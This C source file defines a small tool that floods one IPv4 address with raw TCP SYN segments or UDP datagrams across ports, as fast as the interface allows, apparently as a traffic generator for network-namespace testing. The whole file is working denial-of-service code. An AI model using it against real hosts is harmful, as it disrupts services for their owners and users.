/*
 * Packets to one address, as fast as the interface takes them, from a socket of the caller's network namespace, until it is ended:
 *
 *     flood syn ADDRESS     TCP SYN segments, each from and to other ports
 *     flood udp ADDRESS     datagrams, each from or to another port
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define FIRST_PORT 1024
#define PORTS (65536 - FIRST_PORT)
#define SOURCES_UDP 16

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static uint32_t sum_of(const void *bytes, size_t size)
{
	const uint8_t *at = bytes;
	uint32_t sum = 0;
	for (size_t i = 0; i < size; i += 2)
		sum += (uint32_t)(at[i] << 8 | at[i + 1]);
	return sum;
}

/* RFC 9293, 3.1: with the pseudo-header. */
static uint16_t tcp_checksum(const struct tcphdr *tcp, struct in_addr from, struct in_addr to)
{
	uint32_t sum = sum_of(tcp, sizeof(*tcp)) + sum_of(&from, 4) + sum_of(&to, 4) + IPPROTO_TCP + sizeof(*tcp);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* A full queue of the interface is what a flood must expect. */
static void must_send(ssize_t size)
{
	if (size < 0 && errno != ENOBUFS && errno != EAGAIN && errno != ECONNREFUSED && errno != EPERM)
		fail("send");
}

static struct in_addr own_address(const struct sockaddr_in *target)
{
	struct sockaddr_in own;
	socklen_t size = sizeof(own);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || connect(fd, (const struct sockaddr *)target, sizeof(*target)) < 0 ||
	    getsockname(fd, (struct sockaddr *)&own, &size) < 0)
		fail("the way to the target");
	return own.sin_addr;
}

static _Noreturn void flood_syn(const struct sockaddr_in *target)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
	if (fd < 0 || connect(fd, (const struct sockaddr *)target, sizeof(*target)) < 0)
		fail("socket");
	struct in_addr own = own_address(target);
	for (uint32_t i = 0;; i++) {
		struct tcphdr tcp = {
			.source = htons((uint16_t)(FIRST_PORT + i % PORTS)),
			.dest = htons((uint16_t)(1 + i / PORTS % UINT16_MAX)),
			.seq = htonl(i),
			.doff = sizeof(tcp) / 4,
			.syn = 1,
			.window = htons(1024),
		};
		tcp.check = tcp_checksum(&tcp, own, target->sin_addr);
		must_send(send(fd, &tcp, sizeof(tcp), 0));
	}
}

/* All ports of the target in turn, each time from another socket. */
static _Noreturn void flood_udp(const struct sockaddr_in *target)
{
	int sockets[SOURCES_UDP];
	for (int i = 0; i < SOURCES_UDP; i++) {
		sockets[i] = socket(AF_INET, SOCK_DGRAM, 0);
		if (sockets[i] < 0)
			fail("socket");
	}
	struct sockaddr_in to = *target;
	for (uint32_t i = 0;; i++) {
		to.sin_port = htons((uint16_t)(FIRST_PORT + i % PORTS));
		int fd = sockets[i / PORTS % SOURCES_UDP];
		must_send(sendto(fd, "scan", 4, 0, (struct sockaddr *)&to, sizeof(to)));
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in target = { .sin_family = AF_INET };
	if (argc != 3 || inet_pton(AF_INET, argv[2], &target.sin_addr) != 1) {
		fprintf(stderr, "flood syn|udp ADDRESS\n");
		return 2;
	}
	target.sin_port = htons(9);
	if (strcmp(argv[1], "syn") == 0)
		flood_syn(&target);
	flood_udp(&target);
}
